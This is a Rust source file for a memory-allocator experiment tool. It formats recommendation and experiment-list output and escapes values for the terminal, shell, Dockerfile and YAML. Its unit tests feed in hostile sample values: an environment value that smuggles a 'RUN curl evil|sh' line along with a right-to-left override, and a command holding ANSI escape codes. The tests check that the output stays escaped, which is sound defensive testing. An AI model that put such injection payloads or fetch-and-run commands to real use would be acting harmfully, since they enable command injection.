//! Terminal text of `memtrial recommend` and `memtrial list`. Everything taken from the
//! input (commands, variant names, environment values, messages) is escaped for its
//! target: the terminal, a shell line, a Dockerfile, YAML.

use std::path::Path;

use super::escape::{shell_assignment, terminal};
use super::{ExportError, Exporter, Report};
use crate::analysis::recommend::{how_to_apply, Verdict};
use crate::record::ExperimentSummary;

/// `memtrial recommend`: the verdict, its trade-offs and how to apply it.
pub struct RecommendationExporter;

impl<'a> Exporter<Report<'a>> for RecommendationExporter {
    fn serialize(&self, r: &Report<'a>) -> Result<Vec<u8>, ExportError> {
        Ok(recommendation(r).into_bytes())
    }
}

fn indent(s: &str) -> String {
    s.lines().map(|l| format!("  {}\n", terminal(l))).collect()
}

/// The text of `memtrial recommend`.
pub fn recommendation(r: &Report<'_>) -> String {
    let (exp, rec) = (r.experiment, r.recommendation);
    let mut out = format!(
        "experiment {}: {}\n",
        exp.id,
        super::table::shell_line(&exp.plan.command)
    );
    out.push_str(&format!("\n{}\n", terminal(&rec.headline())));
    if let Some(m) = super::knobs::measured_as(exp, rec) {
        out.push_str(&format!("  {}\n", terminal(&m)));
    }
    if let Verdict::Pick {
        variant, tradeoffs, ..
    } = &rec.verdict
    {
        for t in tradeoffs {
            out.push_str(&format!("  - {}\n", terminal(t)));
        }
        if let Some(h) = how_to_apply(&exp.plan, variant) {
            out.push_str("\nEnvironment:\n");
            for (k, v) in &h.env {
                out.push_str(&format!("  {}\n", shell_assignment(k, v)));
            }
            out.push_str(&format!("\nDockerfile:\n{}\n", indent(&h.dockerfile)));
            out.push_str(&format!(
                "Kubernetes container:\n{}\n",
                indent(&h.kubernetes)
            ));
            out.push_str(&format!("Check in production:\n{}\n", indent(&h.check)));
        }
    }
    out.push_str(&format!(
        "\nPareto front ({}): {}\n",
        rec.axes(),
        if rec.pareto_front.is_empty() {
            "none".to_string()
        } else {
            terminal(&rec.pareto_front.join(", "))
        }
    ));
    for x in &rec.excluded {
        out.push_str(&format!("left out: {}\n", terminal(x)));
    }
    let absent: Vec<String> = super::evidence_lines(r.analysis)
        .into_iter()
        .filter(|l| l.contains(" not shown: "))
        .collect();
    if !absent.is_empty() {
        out.push_str("not weighed (below their rule):\n");
        for x in absent {
            out.push_str(&format!("  {}\n", terminal(&x)));
        }
    }
    out
}

/// `memtrial list`: one row per stored experiment.
pub fn experiment_list(db: &Path, list: &[ExperimentSummary]) -> String {
    if list.is_empty() {
        return format!(
            "no experiments in {}\n",
            terminal(&db.display().to_string())
        );
    }
    let mut t = comfy_table::Table::new();
    t.load_preset(comfy_table::presets::UTF8_FULL_CONDENSED);
    t.set_header([
        "id", "started", "status", "runs", "hosts", "variants", "command",
    ]);
    for e in list {
        t.add_row([
            e.id.to_string(),
            terminal(&e.created_at),
            e.status.as_str().to_string(),
            format!("{}/{}", e.runs_done, e.runs_planned),
            e.hosts.to_string(),
            terminal(&e.variants.join(",")),
            super::table::shell_line(&e.command),
        ]);
    }
    format!("{t}\n")
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::analysis::analyse;
    use crate::analysis::recommend::recommend;
    use crate::record::ExperimentStatus;
    use crate::report::fixture;

    fn report_text(e: &crate::record::Experiment) -> String {
        let a = analyse(e);
        let rec = recommend(&a);
        recommendation(&Report {
            experiment: e,
            analysis: &a,
            recommendation: &rec,
        })
    }

    #[test]
    fn recommend_text_for_the_fixture() {
        let t = report_text(&fixture::experiment());
        assert!(
            t.starts_with("experiment 7: ruby job.rb --input 'big file.csv'\n\nUse jemalloc: "),
            "{t}"
        );
        assert!(
            t.contains("\nEnvironment:\n  LD_PRELOAD=/usr/lib/x86_64-linux-gnu/libjemalloc.so.2\n"),
            "{t}"
        );
        assert!(
            t.contains("Kubernetes container:\n  env:\n    - name: LD_PRELOAD\n"),
            "{t}"
        );
    }

    #[test]
    fn recommend_quotes_environment_values_for_each_target() {
        let mut e = fixture::experiment();
        let v = e
            .plan
            .variants
            .iter_mut()
            .find(|v| v.name == "jemalloc")
            .unwrap();
        v.env
            .push(("MALLOC_CONF".into(), "a b\nRUN curl evil|sh\u{202E}".into()));
        let t = report_text(&e);
        assert!(
            t.contains("  MALLOC_CONF=$'a b\\nRUN curl evil|sh\\u202e'\n"),
            "shell line quoted: {t}"
        );
        assert!(
            !t.contains("\nRUN curl"),
            "no line of the value escapes: {t}"
        );
        assert!(!t.contains('\u{202E}'), "{t}");
        assert!(
            t.contains("value: \"a b\\nRUN curl evil|sh\\u202e\""),
            "YAML: {t}"
        );
        assert!(
            t.contains("# MALLOC_CONF: its name or value holds a line break"),
            "{t}"
        );
    }

    #[test]
    fn list_shows_control_characters_escaped() {
        let list = [ExperimentSummary {
            id: 1,
            created_at: "2026-01-01T00:00:00Z".into(),
            status: ExperimentStatus::Complete,
            command: vec!["sh".into(), "-c".into(), "echo \x1b[2J\u{202E}x".into()],
            variants: vec!["glibc".into()],
            runs_done: 1,
            runs_planned: 1,
            hosts: 1,
        }];
        let t = experiment_list(Path::new("m.db"), &list);
        assert!(!t.contains('\x1b') && !t.contains('\u{202E}'), "{t}");
        assert!(t.contains("$'echo \\x1b[2J\\u202ex'"), "{t}");
    }
}
